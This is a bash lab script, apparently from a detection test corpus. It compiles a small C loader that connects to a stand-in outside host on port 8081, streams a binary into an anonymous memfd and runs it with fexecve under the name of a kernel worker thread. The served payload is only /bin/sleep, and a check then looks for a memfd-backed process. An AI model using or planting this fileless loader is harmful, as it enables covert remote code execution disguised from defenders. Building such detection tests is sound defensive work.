#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=gcc far=out ready=out:8081 seconds=20 parts=dns before=yes
# A small program fetches another one from a port outside into memory and becomes it, by the name of a thread of the kernel's.
if [ "$1" = before ]; then
	cat >"$LAB/m.c" <<'END'
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv, char **env)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8081)};
	char d[65536], *name[] = {"[kworker/1:2]", "12", NULL};
	int m = memfd_create("", MFD_CLOEXEC), s = socket(AF_INET, SOCK_STREAM, 0);
	ssize_t n;
	(void)argc, (void)argv;
	inet_pton(AF_INET, "203.0.113.66", &to.sin_addr);
	if (connect(s, (struct sockaddr *)&to, sizeof(to)) < 0)
		return 1;
	while ((n = read(s, d, sizeof(d))) > 0)
		if (write(m, d, (size_t)n) != n)
			return 1;
	close(s);
	return fexecve(m, name, env);
}
END
	exec gcc -O1 -o "$LAB/setup" "$LAB/m.c"
fi
if [ "$1" = out ]; then exec timeout 40 socat -u FILE:/bin/sleep TCP-LISTEN:8081,bind=203.0.113.66,reuseaddr; fi
sleep 1; timeout 20 "$LAB/setup" & sleep 6; find /proc/[0-9]* -maxdepth 1 -name exe -printf "%l\n" 2>/dev/null | grep -q memfd: || exit 1; wait
